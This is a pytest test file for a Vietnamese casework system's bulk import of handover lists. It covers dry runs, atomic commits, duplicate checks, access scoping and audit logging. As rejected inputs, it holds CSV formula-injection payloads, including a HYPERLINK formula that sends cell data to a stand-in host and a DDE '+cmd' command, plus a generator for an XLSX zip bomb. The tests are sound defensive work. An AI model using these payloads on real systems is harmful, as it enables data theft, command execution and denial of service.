"""Bulk intake of handover lists: dry run, all-or-nothing commit, and every bad input refused."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from datetime import date

import pytest
from werkzeug.datastructures import FileStorage

from casework.cases.models import Case
from casework.people.models import Person
from casework.services.models import CaseImport
from tests.services.conftest import count, open_case

HEADER_VI = [
    "STT",
    "Họ và tên",
    "Giới tính",
    "Ngày sinh",
    "Số CCCD",
    "Số điện thoại",
    "Địa chỉ",
    "Ngày hoàn thành cai nghiện",
    "Hình thức cai",
]
ROWS = [
    [
        "1",
        "Nguyễn Văn An",
        "Nam",
        "17/03/1990",
        "001090012345",
        "0912345001",
        "Số 1 Đội Cấn",
        "01/02/2025",
        "Tự nguyện",
    ],
    [
        "2",
        "Trần Thị Bình",
        "Nữ",
        "1992-05-30",
        "001192012346",
        "+84 912 345 002",
        "Số 2 Liễu Giai",
        "15/01/2025",
        "Bắt buộc",
    ],
    ["3", "Lê Văn Cường", "Nam", "01/12/1985", "", "", "", "20/12/2024", "Điều trị thay thế"],
]


def csv_file(header=HEADER_VI, rows=ROWS, encoding="utf-8-sig", delimiter=","):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    if encoding == "cp1258":
        return _cp1258(buffer.getvalue())
    return buffer.getvalue().encode(encoding)


def _cp1258(text):
    """Windows-1258 writes a tone mark as a combining character after ê, ơ, ư…"""
    out = b""
    for char in text:
        try:
            out += char.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        base, *marks = unicodedata.normalize("NFD", char)
        for mark in [*marks, ""]:
            head = unicodedata.normalize("NFC", base + mark)
            rest = "".join(m for m in marks if m != mark)
            try:
                out += head.encode("cp1258") + rest.encode("cp1258")
                break
            except UnicodeEncodeError:
                continue
        else:
            raise AssertionError(char)
    return out


def xlsx_file(header=HEADER_VI, rows=ROWS):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(
    api, data, name="danh-sach.csv", case_type="post_rehab", unit="00004", dry_run=True, **form
):
    body = {
        "case_type": case_type,
        "unit": unit,
        "dry_run": "true" if dry_run else "false",
        "file": (io.BytesIO(data), name),
        **form,
    }
    return api.post("/api/v1/imports?lang=en", data=body, content_type="multipart/form-data")


def upload_in_memory(api, data):
    """A large upload encoded in memory: the test client would spool it to a temporary file
    that it never closes (a ResourceWarning, an error under filterwarnings=error)."""
    from werkzeug.test import stream_encode_multipart

    stream, _length, boundary = stream_encode_multipart(
        {
            "case_type": "post_rehab",
            "unit": "00004",
            "file": FileStorage(io.BytesIO(data), "big.csv"),
        },
        use_tempfile=False,
    )
    return api.post(
        "/api/v1/imports?lang=en",
        data=stream.read(),
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def statuses(response):
    return [(r["row"], r["status"]) for r in response.get_json()["rows"]]


def test_a_dry_run_reports_every_row_and_writes_no_case(world, worker):
    response = upload(worker, csv_file())
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["dry_run"] is True
    assert statuses(response) == [(2, "ok"), (3, "ok"), (4, "ok")]
    assert (body["rows_total"], body["rows_ok"], body["rows_imported"]) == (3, 3, 0)
    assert count(world, Case) == 0 and count(world, Person) == 0
    assert count(world, CaseImport) == 1


def test_the_dry_run_leaves_no_case_create_audit_entries(world, worker):
    from casework.audit.models import AuditEvent
    from casework.extensions import db

    upload(worker, csv_file())
    with world.app.app_context():
        actions = list(db.session.scalars(db.select(AuditEvent.action)))
        db.session.remove()
    assert "case.create" not in actions and "import.check" in actions


def test_a_commit_opens_identified_cases_with_the_list_details(world, worker):
    response = upload(worker, csv_file(), dry_run=False)
    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["rows_imported"] == 3
    references = [r["reference"] for r in body["rows"]]
    assert all(ref.startswith("HS-") for ref in references)
    cases = worker.get("/api/v1/cases?per_page=100").get_json()
    assert len(cases) == 3
    case = next(
        c
        for c in (worker.get(f"/api/v1/cases/{c['id']}").get_json() for c in cases)
        if c["person"]["full_name"] == "Trần Thị Bình"
    )
    assert case["stage"] == "identified"
    assert case["person"]["sex"] == "female"
    assert case["person"]["date_of_birth"] == "1992-05-30"
    assert case["rehab_kind"] == "compulsory"
    assert case["rehab_completion_date"] == "2025-01-15"
    assert case["referral_source"] == "rehab_centre"
    assert case["assigned_to"] == "worker_a"


def test_an_xlsx_list_with_english_headers_and_excel_numbers_imports(world, worker):
    header = [
        "full_name",
        "sex",
        "date_of_birth",
        "national_id",
        "phone",
        "unit",
        "release_date",
        "sentence_months",
    ]
    rows = [["Phạm Văn Dũng", "male", date(1980, 1, 2), 1080012345, 912345003, 4, "10/01/2025", 36]]
    response = upload(
        worker, xlsx_file(header, rows), name="release.xlsx", case_type="post_prison", dry_run=False
    )
    assert response.status_code == 201, response.get_json()
    case_id = worker.get("/api/v1/cases").get_json()[0]["id"]
    case = worker.get(f"/api/v1/cases/{case_id}").get_json()
    assert case["person"]["national_id"] == "001080012345"  # Excel's dropped zeros put back
    assert case["person"]["phone"] == "0912345003"
    assert (case["unit"]["code"], case["sentence_months"], case["release_date"]) == (
        "00004",
        36,
        "2025-01-10",
    )


def test_a_semicolon_csv_from_a_vietnamese_excel_is_read(world, worker):
    response = upload(worker, csv_file(delimiter=";"))
    assert statuses(response) == [(2, "ok"), (3, "ok"), (4, "ok")]


def test_duplicates_are_flagged_in_scope_and_elsewhere_never_merged(world, worker):
    existing = open_case(worker, national_id="001090012345", phone="0900000001")
    open_case(
        world.client_for("worker_b"), unit="00008", national_id="001192012346", phone="0900000002"
    )
    response = upload(worker, csv_file())
    rows = response.get_json()["rows"]
    assert rows[0]["status"] == "duplicate" and rows[0]["duplicates"] == [existing["reference"]]
    assert rows[1]["status"] == "duplicate" and rows[1]["duplicates"] == [] and rows[1]["elsewhere"]
    assert rows[2]["status"] == "ok"
    committed = upload(worker, csv_file(), dry_run=False)
    assert committed.get_json()["rows_imported"] == 3
    assert count(world, Person) == 5  # two existing + three new: nothing merged


def test_the_same_national_id_twice_in_one_list_is_an_error(world, worker):
    rows = [ROWS[0], [*ROWS[1][:4], ROWS[0][4], *ROWS[1][5:]]]
    response = upload(worker, csv_file(rows=rows))
    row = response.get_json()["rows"][1]
    assert row["status"] == "error" and "national_id" in row["messages"]


def bad_rows_cases():
    good = ROWS[0]
    return {
        "impossible date": ([*good[:3], "31/02/1990", *good[4:]], "date_of_birth"),
        "unknown date form": ([*good[:3], "March 1990", *good[4:]], "date_of_birth"),
        "future birth": ([*good[:3], "01/01/2999", *good[4:]], "date_of_birth"),
        "short national id": ([*good[:4], "12345", *good[5:]], "national_id"),
        "letters in national id": ([*good[:4], "00109001234X", *good[5:]], "national_id"),
        "formula in name": (
            [good[0], '=HYPERLINK("http://x.example/?"&A1)', *good[2:]],
            "full_name",
        ),
        "plus formula in address": ([*good[:6], "+cmd|'/c calc'!A0", *good[7:]], "address"),
        "at formula": ([*good[:6], "@SUM(A1:A2)", *good[7:]], "address"),
        "minus formula in phone": ([*good[:5], "-2+3", *good[6:]], "phone"),
        "unknown sex": ([good[0], good[1], "Không rõ", *good[3:]], "sex"),
        "unknown rehab kind": ([*good[:8], "Tại nhà hàng xóm"], "rehab_kind"),
        "missing name": ([good[0], "", *good[2:]], "full_name"),
    }


@pytest.mark.parametrize("label", list(bad_rows_cases()))
def test_a_bad_row_is_reported_and_the_commit_imports_nothing(world, worker, label):
    row, column = bad_rows_cases()[label]
    rows = [ROWS[1], row]
    dry = upload(worker, csv_file(rows=rows))
    assert dry.status_code == 201
    reported = dry.get_json()["rows"][1]
    assert reported["status"] == "error" and column in reported["messages"], reported
    commit = upload(worker, csv_file(rows=rows), dry_run=False)
    assert commit.status_code == 422
    assert commit.get_json()["errors"]["rows"]["3"]
    assert count(world, Case) == 0 and count(world, Person) == 0


def test_unknown_and_outside_unit_codes_are_row_errors(world, worker):
    header = [*HEADER_VI, "Mã xã"]
    rows = [[*ROWS[0], "99999"], [*ROWS[1], "00008"], [*ROWS[2], "00004"]]
    response = upload(worker, csv_file(header, rows))
    assert statuses(response) == [(2, "error"), (3, "error"), (4, "ok")]
    assert all("unit" in r["messages"] for r in response.get_json()["rows"][:2])


def test_the_default_unit_must_be_known_and_in_the_callers_area(world, worker):
    assert upload(worker, csv_file(), unit="99999").status_code == 422
    assert upload(worker, csv_file(), unit="00008").status_code == 422


@pytest.mark.parametrize(
    ("header", "fragment"),
    [
        (["Họ và tên", "Giới tính", "Nghề nghiệp"], "Unknown columns"),
        (["Họ và tên", "Ngày sinh"], "Missing columns"),
        (["Họ và tên", "Giới tính", "Ngày ra trại"], "do not belong"),
        (["Họ và tên", "Giới tính", "full_name"], "twice"),
    ],
)
def test_wrong_columns_refuse_the_file(world, worker, header, fragment):
    response = upload(worker, csv_file(header, [["A", "Nam", "x"][: len(header)]]))
    assert response.status_code == 422
    assert any(fragment in message for message in response.get_json()["errors"]["columns"])
    assert count(world, CaseImport) == 0


def test_a_file_over_the_import_limit_is_refused_before_parsing(world, worker):
    world.app.config["CASEWORK_IMPORT_MAX_BYTES"] = 1024 * 1024
    data = csv_file() + b"x" * (2 * 1024 * 1024)
    response = upload_in_memory(worker, data)
    assert response.status_code == 413
    assert "MB" in response.get_json()["message"]


def test_a_50_mb_file_is_refused(world, worker):
    response = upload_in_memory(worker, b"a" * (50 * 1024 * 1024))
    assert response.status_code == 413
    assert count(world, CaseImport) == 0


def zip_bomb() -> bytes:
    """An XLSX-looking zip whose sheet inflates 1000-fold (200 MB of zeros)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            chunk = b"0" * (1024 * 1024)
            for _ in range(200):
                entry.write(chunk)
    return out.getvalue()


def test_an_xlsx_zip_bomb_is_refused_before_openpyxl_opens_it(world, worker, monkeypatch):
    import openpyxl

    def never(*_args, **_kwargs):
        raise AssertionError("openpyxl must not open a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    response = upload(worker, zip_bomb(), name="bomb.xlsx")
    assert response.status_code == 422
    assert "zip bomb" in response.get_json()["errors"]["file"][0]


def test_a_damaged_xlsx_and_an_old_xls_are_refused_clearly(world, worker):
    broken = upload(worker, b"PK\x03\x04" + b"\x00" * 200, name="broken.xlsx")
    assert broken.status_code == 422 and "file" in broken.get_json()["errors"]
    xls = upload(worker, b"\xd0\xcf\x11\xe0" + b"\x00" * 200, name="old.xls")
    assert xls.status_code == 422 and ".xls" in xls.get_json()["message"]


def test_a_formula_cell_in_an_xlsx_is_refused(world, worker):
    rows = [[*ROWS[0][:1], "=1+1", *ROWS[0][2:]]]
    response = upload(worker, xlsx_file(rows=rows), name="f.xlsx")
    assert response.get_json()["rows"][0]["status"] == "error"


def test_a_non_utf8_csv_gets_a_clear_error_and_windows_1258_on_request(world, worker):
    data = csv_file(encoding="cp1258")
    response = upload(worker, data)
    assert response.status_code == 422
    assert "UTF-8" in response.get_json()["message"]
    accepted = upload(worker, data, encoding="windows-1258")
    assert accepted.status_code == 201
    assert statuses(accepted) == [(2, "ok"), (3, "ok"), (4, "ok")]


def test_empty_and_binary_files_are_refused(world, worker):
    assert upload(worker, b"").status_code == 422
    assert upload(worker, b"\x00\x01\x02" * 100).status_code == 422


def test_too_many_rows_are_refused(world, worker):
    world.app.config["CASEWORK_IMPORT_MAX_ROWS"] = 2
    response = upload(worker, csv_file())
    assert response.status_code == 422
    assert "rows" in response.get_json()["message"]


def test_unknown_form_fields_and_a_missing_file_are_422(world, worker):
    response = worker.post(
        "/api/v1/imports",
        data={"case_type": "post_rehab", "unit": "00004", "stage": "closed"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422


def test_the_report_downloads_as_csv_and_xlsx_with_formulas_neutralised(world, worker):
    from openpyxl import load_workbook

    rows = [ROWS[0], [ROWS[1][0], "=cmd()", *ROWS[1][2:]]]
    import_id = upload(worker, csv_file(rows=rows)).get_json()["id"]
    as_csv = worker.get(f"/api/v1/imports/{import_id}/report?format=csv")
    assert as_csv.status_code == 200 and as_csv.mimetype == "text/csv"
    assert "attachment" in as_csv.headers["Content-Disposition"]
    table = list(csv.reader(io.StringIO(as_csv.get_data().decode("utf-8-sig"))))
    assert table[0][:2] == ["row", "status"] and table[2][1] == "error"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
    as_xlsx = worker.get(f"/api/v1/imports/{import_id}/report?format=xlsx")
    workbook = load_workbook(io.BytesIO(as_xlsx.get_data()))
    values = [c.value for row in workbook.active.iter_rows() for c in row]
    assert all(not (isinstance(v, str) and v.startswith("=")) for v in values)
    assert "=cmd()" not in as_csv.get_data(as_text=True)  # the report never repeats a cell value


def test_an_import_report_is_not_found_for_another_commune(world, worker):
    import_id = upload(worker, csv_file()).get_json()["id"]
    other = world.client_for("worker_b")
    assert other.get(f"/api/v1/imports/{import_id}").status_code == 404
    assert other.get(f"/api/v1/imports/{import_id}/report").status_code == 404
    assert world.client_for("worker_a2").get(f"/api/v1/imports/{import_id}").status_code == 404
    assert world.client_for("supervisor_a").get(f"/api/v1/imports/{import_id}").status_code == 200


def test_the_stored_report_is_encrypted(world, worker):
    from casework.extensions import db

    upload(worker, csv_file(), name="danh-sach-trai-cai-nghien.csv")
    with world.app.app_context():
        row = db.session.execute(db.text("SELECT report_ct, filename_ct FROM case_import")).one()
        db.session.remove()
    assert b"status" not in bytes(row[0]) and b"danh" not in bytes(row[1])


def test_statisticians_cannot_import(world):
    response = upload(world.client_for("statistician"), csv_file())
    assert response.status_code == 403


def test_the_same_phone_twice_in_one_list_is_flagged_not_refused(world, worker):
    rows = [ROWS[0], [*ROWS[1][:5], ROWS[0][5], *ROWS[1][6:]]]
    response = upload(worker, csv_file(rows=rows), dry_run=False)
    assert response.status_code == 201
    second = response.get_json()["rows"][1]
    assert (second["status"], second["same_as_row"]) == ("duplicate", 2)


def test_each_imported_case_is_audited_like_one_opened_by_hand(world, worker):
    from casework.audit.models import AuditEvent
    from casework.extensions import db

    upload(worker, csv_file(), dry_run=False)
    with world.app.app_context():
        actions = list(db.session.scalars(db.select(AuditEvent.action)))
        db.session.remove()
    assert actions.count("case.create") == 3 and "import.commit" in actions


def test_a_refused_commit_is_audited_even_though_nothing_was_written(world, worker):
    from casework.audit.models import AuditEvent
    from casework.extensions import db

    upload(worker, csv_file(rows=[[*ROWS[0][:3], "31/02/1990", *ROWS[0][4:]]]), dry_run=False)
    with world.app.app_context():
        outcomes = list(db.session.execute(db.select(AuditEvent.action, AuditEvent.outcome)))
        db.session.remove()
    assert ("import.commit", "refused") in [tuple(o) for o in outcomes]


def _same_bucket_national_id(world, national_id):
    """Another well-formed CCCD whose 16-bit blind index equals ``national_id``'s."""
    with world.app.app_context():
        target = Person.national_id.blind_index_of(national_id)
        for serial in range(1_000_000):
            candidate = f"001090{serial:06d}"
            if candidate != national_id and Person.national_id.blind_index_of(candidate) == target:
                return candidate
    raise AssertionError("no collision in a million IDs")


def test_a_blind_index_collision_is_not_reported_as_a_duplicate(world, worker):
    open_case(worker, national_id="001090012345", phone="0900000001")
    neighbour = _same_bucket_national_id(world, "001090012345")
    rows = [[*ROWS[0][:4], neighbour, "", *ROWS[0][6:]]]
    row = upload(worker, csv_file(rows=rows)).get_json()["rows"][0]
    assert (row["status"], row["duplicates"], row["elsewhere"]) == ("ok", [], False)


def _selects_while(world, action):
    """How many SELECT statements the database received while ``action`` ran."""
    from sqlalchemy import event

    from casework.extensions import db

    seen = []

    def count(conn, cursor, statement, *args):
        if statement.lstrip().upper().startswith("SELECT"):
            seen.append(statement)

    with world.app.app_context():
        engine = db.engine
    event.listen(engine, "before_cursor_execute", count)
    try:
        action()
    finally:
        event.remove(engine, "before_cursor_execute", count)
    return len(seen)


def _numbered_rows(n):
    return [
        [str(i), f"Người Số {i}", "Nam", "01/01/1990", f"0010900{i:05d}", f"09100{i:05d}"]
        + ["", "", ""]
        for i in range(1, n + 1)
    ]


def test_duplicate_and_unit_lookups_do_not_grow_with_the_list(world, worker):
    """Units are resolved once per code and duplicates found for the whole list at once: a list
    ten times longer sends the database no more SELECTs (the inserts are batched apart)."""
    open_case(worker, national_id="001090000003", phone="0900000001")
    short = _selects_while(world, lambda: upload(worker, csv_file(rows=_numbered_rows(5))))
    long = _selects_while(world, lambda: upload(worker, csv_file(rows=_numbered_rows(50))))
    assert long == short


def test_duplicates_found_in_a_batch_match_those_of_a_single_search(world, worker):
    existing = open_case(worker, national_id="001090000003", phone="0900000001")
    open_case(
        world.client_for("worker_b"), unit="00008", national_id="001090000007", phone="0900000002"
    )
    rows = _numbered_rows(10)
    rows[5][5] = "+84 900 000 001"  # row 6 shares the first case's phone, not its ID
    report = upload(worker, csv_file(rows=rows)).get_json()["rows"]
    flagged = {
        r["row"] - 1: (r["duplicates"], r["elsewhere"]) for r in report if r["status"] != "ok"
    }
    assert flagged == {
        3: ([existing["reference"]], False),
        6: ([existing["reference"]], False),
        7: ([], True),
    }


def test_a_dry_run_keeps_the_audit_entries_queued_before_it(world):
    from casework.audit import trail
    from casework.audit.models import AuditEvent
    from casework.extensions import db

    with world.app.app_context():
        trail.record(db.session, "before.dry_run")
        mark = trail.pending_mark(db.session)
        savepoint = db.session.begin_nested()
        trail.record(db.session, "inside.dry_run")
        savepoint.rollback()  # fires after_rollback, which empties the whole queue
        trail.discard_since(db.session, mark)
        db.session.commit()
        actions = list(db.session.scalars(db.select(AuditEvent.action)))
        db.session.remove()
    assert actions == ["before.dry_run"]


def test_a_reference_drawn_twice_is_redrawn_not_a_failed_import(world, worker, monkeypatch):
    """References are random (about 10^9 a year): a long list may draw one twice, or one a
    stored case holds. The import redraws it instead of failing on the unique index."""
    from casework.cases import operations

    stored = open_case(worker, national_id="001090099999", phone="0900000009")["reference"]
    draws = iter([stored, "HS-2026-AAAAAA", "HS-2026-AAAAAA"])
    monkeypatch.setattr(operations, "new_reference", lambda today: next(draws))
    response = upload(worker, csv_file(), dry_run=False)
    assert response.status_code == 201, response.get_json()
    references = [r["reference"] for r in response.get_json()["rows"]]
    assert len(set(references)) == 3 and stored not in references
    assert "HS-2026-AAAAAA" in references
    listed = {c["reference"] for c in worker.get("/api/v1/cases?per_page=50").get_json()}
    assert set(references) | {stored} == listed


def _cli(world, tmp_path, data, *extra):
    path = tmp_path / "danh-sach.csv"
    path.write_bytes(data)
    args = ["imports", "run", str(path), "--type", "post_rehab", "--unit", "00004"]
    return world.app.test_cli_runner().invoke(args=[*args, "--as", "worker_a", *extra])


def test_the_cli_checks_a_list_by_default_and_prints_each_row(world, tmp_path):
    open_case(world.client_for("worker_a"), national_id="001090012345", phone="0900000001")
    result = _cli(world, tmp_path, csv_file())
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert [line.split()[:2] for line in lines[1:4]] == [
        ["2", "duplicate"],
        ["3", "ok"],
        ["4", "ok"],
    ]
    assert "dry run, nothing written" in lines[-1]
    assert count(world, Case) == 1 and count(world, CaseImport) == 1


def test_the_cli_imports_with_commit(world, tmp_path):
    result = _cli(world, tmp_path, csv_file(), "--commit")
    assert result.exit_code == 0, result.output
    assert count(world, Case) == 3 and "3 rows imported" in result.output


def test_the_cli_exits_non_zero_when_a_row_fails_and_imports_nothing(world, tmp_path):
    rows = [ROWS[0], [*ROWS[1][:3], "31/02/1990", *ROWS[1][4:]]]
    checked = _cli(world, tmp_path, csv_file(rows=rows))
    assert checked.exit_code == 1 and "date_of_birth" in checked.output
    committed = _cli(world, tmp_path, csv_file(rows=rows), "--commit")
    assert committed.exit_code == 1 and committed.output.split()[:2] == ["3", "error"]
    assert count(world, Case) == 0


def test_the_cli_refuses_an_unknown_user_type_or_unit(world, tmp_path):
    path = tmp_path / "danh-sach.csv"
    path.write_bytes(csv_file())
    runner = world.app.test_cli_runner()
    base = ["imports", "run", str(path), "--unit", "00004"]
    nobody = runner.invoke(args=[*base, "--type", "post_rehab", "--as", "nobody"])
    assert nobody.exit_code == 1 and "no active user" in nobody.output
    kind = runner.invoke(args=[*base, "--type", "burglary", "--as", "worker_a"])
    assert kind.exit_code == 1 and "unknown case type" in kind.output
    outside = _cli(world, tmp_path, csv_file())  # fine for worker_a in 00004 …
    assert outside.exit_code == 0
    elsewhere = runner.invoke(
        args=[
            "imports",
            "run",
            str(path),
            "--type",
            "post_rehab",
            "--unit",
            "00008",
            "--as",
            "worker_a",
        ]
    )
    assert elsewhere.exit_code == 1 and "unit" in elsewhere.output  # … but not for 00008
